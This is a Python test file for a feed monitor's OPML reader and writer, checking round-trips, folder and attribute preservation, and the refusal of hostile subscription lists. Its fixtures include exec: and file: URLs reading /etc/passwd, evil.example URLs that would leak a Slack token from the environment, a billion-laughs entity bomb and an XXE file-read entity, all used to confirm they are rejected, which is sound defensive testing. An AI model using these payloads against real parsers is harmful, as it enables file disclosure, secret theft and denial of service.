"""Lists of subscriptions: out and in again is the same; what strangers write is data, and nothing else."""

from __future__ import annotations

import string
from typing import Any

import pytest
import yaml
from conftest import ROOT
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from monitor.errors import UsageError
from monitor.sections import SourceSection
from monitor.sources import opml

FOREIGN = """<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0" xmlns:frss="https://freshrss.example/opml"><head><title>mine</title></head><body>
<outline text="官庁"><outline text="日本">
<outline text="METI" title="経済産業省" type="rss" xmlUrl="https://meti.example/rss?a=1&amp;b=2" htmlUrl="https://meti.example/"
  category="/gov/jp,policy" frss:priority="feed"/></outline>
<outline text="USTR" type="atom" xmlUrl="https://ustr.example/atom.xml"/></outline>
<outline text="Script" type="rss" xmlUrl="exec:/bin/cat /etc/passwd"/>
<outline text="Filter" type="rss" xmlUrl="filter:/bin/sh:https://a.example/"/>
<outline text="File" type="rss" xmlUrl="file:///etc/passwd"/>
<outline text="Login" type="rss" xmlUrl="https://me:pass-word@a.example/feed"/>
<outline text="A note"/>
<outline text="Scraped" type="HTML+XPath" xmlUrl="https://scraped.example/news" frss:xPathItem="//li"/>
</body></opml>"""


def body(*outlines: str) -> bytes:
    return f'<opml version="2.0" xmlns:monitor="{opml.NAMESPACE}"><body>{"".join(outlines)}</body></opml>'.encode()


def test_a_list_of_another_program_gives_its_sources_with_all_that_it_said_of_them() -> None:
    """Folders, categories and foreign attributes are kept; an outline that is no feed of ours comes in disabled."""
    found = opml.read(FOREIGN.encode())
    assert [dict(each) for each in found.sources] == [
        {
            "name": "経済産業省",
            "type": "feed",
            "url": "https://meti.example/rss?a=1&b=2",
            "opml": {
                "htmlUrl": "https://meti.example/",
                "category": "/gov/jp,policy",
                "{https://freshrss.example/opml}priority": "feed",
                "folder": "官庁/日本",
            },
        },
        {"name": "USTR", "type": "feed", "url": "https://ustr.example/atom.xml", "opml": {"type": "atom", "folder": "官庁"}},
        {
            "name": "Scraped",
            "type": "feed",
            "url": "https://scraped.example/news",
            "enabled": False,
            "opml": {"{https://freshrss.example/opml}xPathItem": "//li", "type": "HTML+XPath"},
        },
    ]


def test_what_is_no_address_of_the_web_is_skipped_with_a_line_each() -> None:
    """exec:, filter: and file: are commands and files in other readers; here they are nothing. No password is told."""
    lines = opml.read(FOREIGN.encode()).skipped
    assert [line.split(":")[0] for line in lines] == ["'Script'", "'Filter'", "'File'", "'Login'", "'Scraped'"]
    assert "pass-word" not in "".join(lines)


def test_foreign_attributes_and_folders_are_written_again_as_they_were() -> None:
    """Neighbours of one folder share its outline; order and attributes stay."""
    once = opml.write(opml.read(FOREIGN.encode()).sources, "mine")
    root = etree.fromstring(once)
    assert [each.get("text") for each in root.find("body")] == ["官庁", "Scraped"]
    meti = next(root.iter("{*}outline"))[0][0]
    assert (meti.get("category"), meti.get("{https://freshrss.example/opml}priority")) == ("/gov/jp,policy", "feed")
    assert opml.write(opml.read(once).sources, "mine") == once


def test_the_file_that_ships_goes_out_and_comes_in_the_same() -> None:
    """Every source, every key, in order."""
    sources = yaml.safe_load((ROOT / "feeds.yaml").read_text(encoding="utf-8"))["sources"]
    assert [dict(each) for each in opml.read(opml.write(sources, "ours"), is_trusted=True).sources] == sources


TEXT = st.text(
    st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\ufeff\ufffe\uffff\u0085\u2028\u2029"),
    min_size=1,
    max_size=20,
).filter(lambda text: text == text.strip())
WORD = st.text(string.ascii_lowercase, min_size=1, max_size=8)
SOURCE: st.SearchStrategy[dict[str, Any]] = st.fixed_dictionaries(
    {"id": WORD, "type": st.sampled_from(["feed", "listing"]), "url": WORD.map("https://{}.example/?a=1&b=<2>".format)},
    optional={
        "name": TEXT,
        "country": st.sampled_from(["JP", "NO", "EU"]),
        "lang": st.sampled_from(["ja", "no"]),
        "tier": st.sampled_from(["official", "press"]),
        "kind": TEXT,
        "every": st.sampled_from(["30m", "auto"]),
        "tz": st.just("Asia/Tokyo"),
        "enabled": st.booleans(),
        "full_text": st.booleans(),
        "insecure_tls": st.booleans(),
        "headers": st.dictionaries(WORD, TEXT, min_size=1, max_size=2),
        "select": st.fixed_dictionaries({"item": TEXT}, optional={"title": TEXT, "date": TEXT}),
        "paths": st.fixed_dictionaries({"items": TEXT, "title": TEXT}),
        "opml": st.dictionaries(
            st.sampled_from(["category", "htmlUrl", "{https://other.example/ns}x", "description"]), TEXT, min_size=1
        ),
    },
)
FOLDERS = st.lists(TEXT, max_size=3)


@settings(deadline=None)
@given(st.lists(st.tuples(SOURCE, FOLDERS), max_size=6))
def test_out_and_in_again_is_the_same(listed: list[tuple[dict[str, Any], list[str]]]) -> None:
    """Any source in any folder, in order: texts with quotes, brackets and slashes, flags, selectors, foreign attributes."""
    sources = []
    for source, folders in listed:
        path = "/".join(name.replace("\\", "\\\\").replace("/", "\\/") for name in folders)
        sources.append({**source, "opml": {**source.get("opml", {}), "folder": path}} if path else source)
    assert [dict(each) for each in opml.read(opml.write(sources, "x"), is_trusted=True).sources] == sources


def test_every_key_of_a_source_has_its_way_into_a_list() -> None:
    """A new key of feeds.yaml must be told how it travels."""
    assert opml.FLAGS | opml.STRUCTURES | opml.TEXTS | {"name", "url", "opml"} == set(SourceSection.model_fields)
    fields = SourceSection.model_fields
    assert {name for name in fields if fields[name].annotation is bool} == opml.FLAGS


def test_a_federal_register_question_stays_a_question() -> None:
    """Other readers get its address; we get agencies back, not an address that nobody wrote."""
    source = {"id": "us-bis", "type": "federal_register", "agencies": ["industry-and-security-bureau"], "inspection": True}
    written = opml.write([source], "x")
    assert b"public-inspection-documents.json?conditions" in written
    assert [dict(each) for each in opml.read(written).sources] == [source]


@pytest.mark.parametrize(
    "attributes",
    [
        'xmlUrl="https://evil.example/?t=${SLACK_BOT_TOKEN}"',
        'xmlUrl="https://evil.example/" title="${SLACK_BOT_TOKEN}"',
        'xmlUrl="https://evil.example/" monitor:select=\'{"item": "${SLACK_BOT_TOKEN}"}\'',
        'xmlUrl="https://evil.example/" category="${SLACK_BOT_TOKEN}"',
    ],
)
def test_a_strangers_list_gets_no_variable_of_the_environment(attributes: str) -> None:
    """It would send a secret to whoever wrote the list."""
    found = opml.read(body(f'<outline text="a" {attributes}/>'))
    assert found.sources == ()
    assert "variable" in found.skipped[0]
    assert len(opml.read(body(f'<outline text="a" {attributes}/>'), is_trusted=True).sources) == 1


def test_a_strangers_list_sets_no_headers_and_lets_no_certificate_pass() -> None:
    """The source is taken without them, and that is said."""
    outline = (
        '<outline text="a" xmlUrl="https://a.example/" monitor:id="a" monitor:insecure_tls="true" '
        'monitor:headers=\'{"Cookie": "x"}\' monitor:enabled="perhaps"/>'
    )
    found = opml.read(body(outline))
    assert [dict(each) for each in found.sources] == [{"id": "a", "type": "feed", "url": "https://a.example/"}]
    assert sorted(line.partition(": ")[2] for line in found.skipped) == [
        "enabled: not readable",
        "headers: taken with --trusted only",
        "insecure_tls: taken with --trusted only",
    ]


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY a{n} "&a{n - 1 or ""};&a{n - 1 or ""};">' for n in range(1, 30))
    + ']><opml version="2.0"><body><outline text="&a29;" xmlUrl="https://a.example/"/></body></opml>'
)
LEAK = (
    '<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]><opml><body><outline text="a" xmlUrl="https://a.example/">&x;'
    "</outline></body></opml>"
)


@pytest.mark.parametrize(
    ("document", "cause"),
    [
        (LAUGHS.encode(), "entities"),
        (LAUGHS.encode("utf-16"), "entities"),
        (LEAK.encode(), "entities"),
        (b" " * (opml.MAX_BYTES + 1), "larger than 5 MB"),
        (body('<outline text="x"/>' * (opml.MAX_OUTLINES + 1)), "at most 5000"),
        (b"<rss><channel/></rss>", "not a list of subscriptions"),
        (b"", "not a list of subscriptions"),
        (b"<!DOCTYPE html><html><body>opml</body></html>", "not a list of subscriptions"),
    ],
)
def test_a_list_that_is_hostile_or_none_is_refused_whole(document: bytes, cause: str) -> None:
    """In a moment, without reading anything that it points at."""
    with pytest.raises(UsageError, match=cause):
        opml.read(document)


OLD_CHARSET = (
    '<?xml version="1.0" encoding="Shift_JIS"?><opml><body><outline text="官報" xmlUrl="https://a.example/"/></body></opml>'
)


@pytest.mark.parametrize(
    ("document", "address"),
    [
        (b'<opml><body><outline text="a" xmlUrl="https://a.example/?x=1&y=2"/></body></opml>', "https://a.example/?x=1&y=2"),
        (b'<opml><body><outline text="a" xmlurl="https://a.example/" foo:bar="1"/></body></opml>', "https://a.example/"),
        (b'<opml><body><outline text="a&nbsp;b" xmlUrl="https://a.example/"/></body></opml>', "https://a.example/"),
        (OLD_CHARSET.encode("cp932"), "https://a.example/"),
    ],
)
def test_a_list_with_common_slips_is_read(document: bytes, address: str) -> None:
    """A bare &, an attribute in another case, a prefix nobody declared, an entity of HTML, an old charset."""
    assert [each["url"] for each in opml.read(document).sources] == [address]


@settings(deadline=None)
@given(
    st.binary(max_size=200)
    | st.text(max_size=200).map(lambda text: f'<opml><body>{text}<outline xmlUrl="{text}"/>'.encode("utf-8", "ignore"))
)
def test_any_bytes_are_a_list_or_a_refusal(document: bytes) -> None:
    """Nothing else comes out."""
    try:
        outcome: object = opml.read(document)
    except UsageError as error:
        outcome = error
    assert isinstance(outcome, opml.Listed | UsageError)
